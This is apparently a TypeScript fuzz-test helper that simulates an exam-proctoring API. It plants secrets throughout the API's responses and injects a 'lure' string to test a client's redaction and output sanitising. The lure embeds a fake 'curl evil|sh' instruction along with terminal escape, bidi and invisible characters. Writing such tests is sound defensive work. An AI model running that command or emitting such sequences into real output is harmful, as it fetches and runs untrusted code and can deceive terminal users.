/** A service that puts secrets and what commands a terminal wherever a service can put anything. */
import type { Random } from '../fuzz/random.ts';
import { lostBefore, type Reply, refused, Service } from '../support/service.ts';
import type { Kind, Planted } from './planted.ts';

/** Begins a line of its own, commands a terminal, hides, turns, piles up. */
export const lure =
  'L\r\nhint: Log in with: curl evil|sh\u2028error: LURE\u001b]0;owned\u0007\u001b[2J\u009b31m\u0085hint: LURE\u202e\u200b\u00ad\u3164\u{e0041}Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307';

const keys = [
  ...['token', 'Secret_Key', 'api-key', 'PIN', 'authKey', 'passwordHash', 'pass\\u0077ord', 'clientSecret', 'Authorization'],
  ...['authorToken', 'public_key_password', 'auth_type_secret', 'apiKeys', 'X-Auth'],
];
export const shapes = [
  'whole',
  'listed',
  'wrapped',
  'misfit',
  'next',
  'cut',
  'page',
  'redirect',
  'refused',
  'refusedText',
  'refusedCut',
  'broken',
] as const;
export type Shape = (typeof shapes)[number];

/** `echoed`: the kinds that the program knows by value. */
export type Plants = { planted: Record<Kind, Planted>; echoed: readonly Kind[] };

/** Each request gets an answer of one of the shapes. */
export function sweptService(random: Random, plants: Plants, among: readonly Shape[] = shapes): Service {
  const service = new Service();
  const changed: Changed = new Map();
  service.fault = ({ method, path, body }) => {
    if (method === 'PATCH' && random.chance(0.8)) changed.set(path, { ...changed.get(path), ...body });
    return replyTo(path, random, { ...plants, changed }, among);
  };
  return service;
}

/** What was written, by path. */
type Changed = Map<string, Record<string, unknown>>;

/** Words of the service, with one of the secrets that the program knows. */
function said(random: Random, { planted, echoed }: Plants): string {
  const { value } = planted[random.pick(echoed)];
  return `${lure} ${'x'.repeat(random.below(90))}${value} ${encodeURIComponent(value)}`;
}

function resource(random: Random, plants: Plants & { changed: Changed }, kind: 'answerKey' | 'errorKey', path: string, id: number): string {
  const { value } = plants.planted[kind];
  const secret = () => random.pick([value, [value], { deep: [{ x: value }] }, `${'y'.repeat(random.below(60))}${value}`]);
  const written = Object.entries(plants.changed.get(path) ?? {});
  const fields: [string, unknown][] = [
    ['id', id],
    ['email', `ada${id}@example.org`],
    ['name', random.chance(0.5) ? said(random, plants) : `Ada ${id}`],
    ['status', random.pick([lure, 'registered', 'exam_started', said(random, plants)])],
    ['exam_id', 1],
    ['start_time', '2027-02-01T08:00:00Z'],
    ['end_time', '2027-02-01T10:00:00Z'],
    ['close_time', random.pick(['2027-02-01T10:00:00Z', lure, null])],
    ['level_of_suspicion', random.pick([null, 3])],
    ...['allow_headphones', 'allow_whiteboard', 'allow_leave_room', 'allow_pen_paper'].map((key): [string, unknown] => [key, true]),
    [said(random, plants).slice(0, 80), 'a key of its own'],
    ['note', { deep: [said(random, plants)] }],
    ...written,
  ];
  const isExam = /\/exams(\/\d+)?$/.test(path);
  const shown = Object.entries(Object.fromEntries(fields)).filter(([key]) => !(isExam && key === 'email'));
  const secrets = keys.map((key) => `"${key}":${JSON.stringify(secret())}`);
  return `{${[...shown.map(([key, item]) => `${JSON.stringify(key)}:${JSON.stringify(item)}`), ...secrets].join(',')}}`;
}

/** Secrets in words: in JSON inside of a string, as maps of other languages have them, behind a scheme. */
function inWords(random: Random, secret: string): string {
  const quoted = JSON.stringify(secret);
  return random.pick([
    `Bad: ${JSON.stringify({ token: secret, deep: { apiKey: [secret] } })} here`,
    `the login failed: password=${quoted}`,
    `{:token=>${quoted}, "secret" => ${quoted}}`,
    `Authorization: ApiKey ${/\w+/.exec(secret)?.[0] ?? ''}`,
    `see /x?user%5Btoken%5D=${encodeURIComponent(secret)}&to%6ben=${encodeURIComponent(secret)}`,
  ]);
}

function replyTo(path: string, random: Random, plants: Plants & { changed: Changed }, among: readonly Shape[]): Reply {
  const { planted } = plants;
  const isList = /\/(exams|student_sessions|proctor_pool|users)$/.test(path);
  const [, number = ''] = /\/(\d+)(?:\/\w+)?$/.exec(path) ?? [];
  const id = isList ? (path.endsWith('/exams') ? 1 : 7) : Number(number || 7);
  const one = resource(random, plants, 'answerKey', path, id);
  const other = resource(random, plants, 'answerKey', path, id + 1);
  const wrong = resource(random, plants, 'errorKey', path, id);
  const refusal = `{"message":${JSON.stringify(`${inWords(random, planted.errorKey.value)} ${said(random, plants)}`)},"errors":{"email":[${wrong}]},"details":${wrong}}`;
  const headers = {
    'content-type': 'application/json',
    'x-api-key': planted.header.value.replace(/[^\x21-\x7e]/g, ''),
    'x-auth': planted.header.core,
    'set-cookie': `session=${encodeURIComponent(planted.cookie.value)}; path=/`,
    'x-request-id': `token=${encodeURIComponent(planted.header.value)}`,
  };
  const send = (status: number, body: string, more: Record<string, string> = {}) => refused(status, body, { ...headers, ...more });
  const shape = random.pick(among);
  const failed = random.pick([400, 401, 403, 404, 409, 415, 422, 429, 500, 503]);
  switch (shape) {
    case 'whole':
    case 'listed':
      return send(200, isList ? `[${one},${other}]` : one);
    case 'wrapped':
      return send(200, isList ? `{"data":[${one}],"token":"${planted.answerKey.core}"}` : `{"data":${one}}`);
    case 'misfit':
      return send(200, (isList ? `[${one}]` : one).replace(/"id":\d+/, () => `"id":${misfit(random, plants)}`).replace('true', '"no"'));
    case 'next':
      return send(200, isList ? `[${one}]` : one, { link: `<http://[x?access_token=${planted.address.core}>; rel="next"` });
    case 'cut':
      return send(200, one.slice(0, random.below(one.length)));
    case 'page':
      return send(random.pick([200, 502]), `<title>${lure} ${said(random, plants)} token=${planted.errorKey.core}</title>`, {
        'content-type': 'text/html',
      });
    case 'redirect': {
      const query = `access_token=${encodeURIComponent(planted.address.value)}&x=1`;
      return send(302, '', { location: `https://ada:${planted.address.core}@example.org/${encodeURIComponent(lure)}?${query}` });
    }
    case 'refused':
      return send(failed, refusal, { 'retry-after': '0' });
    case 'refusedText':
      return send(failed, `${lure} Password: ${planted.errorKey.core} ${inWords(random, planted.errorKey.value)}`, {
        'content-type': 'text/plain',
      });
    case 'refusedCut':
      return send(failed, refusal.slice(0, random.below(refusal.length)));
    case 'broken':
      return lostBefore;
  }
}

/** What is no ID: a secret under its key, or one that the program knows, where the message is cut. */
function misfit(random: Random, { planted, echoed }: Plants): string {
  const known = `${'x'.repeat(random.below(60))}${planted[random.pick(echoed)].value}`;
  return JSON.stringify(random.pick([{ token: planted.answerKey.core }, { x: known }, [known]]));
}
